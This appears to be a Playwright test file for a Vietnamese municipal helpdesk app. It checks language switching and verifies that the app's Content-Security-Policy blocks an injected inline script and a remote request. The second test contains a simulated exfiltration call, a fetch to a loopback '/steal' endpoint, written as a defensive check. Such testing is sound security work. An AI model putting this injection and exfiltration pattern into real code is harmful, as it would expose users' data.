import { test, expect } from './fixtures';
import { completeFirstRun } from './pages/setup-page';

test('first run, home screen in Vietnamese, switch to English, choice kept after reload', async ({ page }) => {
  await completeFirstRun(page);
  const nav = page.getByRole('navigation', { name: 'Điều hướng chính' });
  await expect(nav).toBeVisible();
  await expect(page.locator('.brand').first()).toHaveText('Bàn Hỗ Trợ Số');
  await expect(page.getByText('Trung tâm phục vụ Hành chính công phường Tân Lập').first()).toBeVisible();
  await expect(nav.getByRole('link', { name: /Trang chủ/ })).toBeVisible();
  await expect(nav.getByRole('link', { name: /Cài đặt/ })).toBeVisible();
  await expect(page.getByRole('heading', { name: 'Xin chào, Nguyễn Thị Quản Trị' })).toBeVisible();
  await expect(page.locator('html')).toHaveAttribute('lang', 'vi');

  await page.getByRole('button', { name: 'English' }).click();
  await expect(page.getByRole('navigation', { name: 'Main navigation' })).toBeVisible();
  await expect(page.getByRole('heading', { name: 'Hello, Nguyễn Thị Quản Trị' })).toBeVisible();

  await page.reload();
  await expect(page.getByRole('navigation', { name: 'Main navigation' })).toBeVisible();
  await expect(page.getByRole('navigation', { name: 'Main navigation' }).getByRole('link', { name: /Settings/ })).toBeVisible();
  await expect(page.locator('html')).toHaveAttribute('lang', 'en');

  await page.getByRole('button', { name: 'Tiếng Việt' }).click();
  await expect(page.getByRole('navigation', { name: 'Điều hướng chính' })).toBeVisible();
});

test('the Content-Security-Policy blocks an inline script and a remote request', async ({ page, app }) => {
  await expect(page.getByRole('heading', { name: 'Thiết lập lần đầu' })).toBeVisible();
  const outcome = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
    const script = document.createElement('script');
    script.textContent = 'window.__inlineRan = true;';
    document.head.appendChild(script);
    let remoteFailed = false;
    try {
      // Another origin (loopback, other port): only the CSP stands in the way of this request.
      await fetch('http://127.0.0.1:9/steal?x=1');
    } catch {
      remoteFailed = true;
    }
    await new Promise((resolve) => setTimeout(resolve, 50));
    return { inlineRan: (window as unknown as { __inlineRan?: boolean }).__inlineRan === true, remoteFailed, violations };
  });
  expect(outcome.inlineRan).toBe(false);
  expect(outcome.remoteFailed).toBe(true);
  expect(outcome.violations).toContain('script-src-elem');
  expect(outcome.violations).toContain('connect-src');
  expect(app.dataDir).toBeTruthy();
});
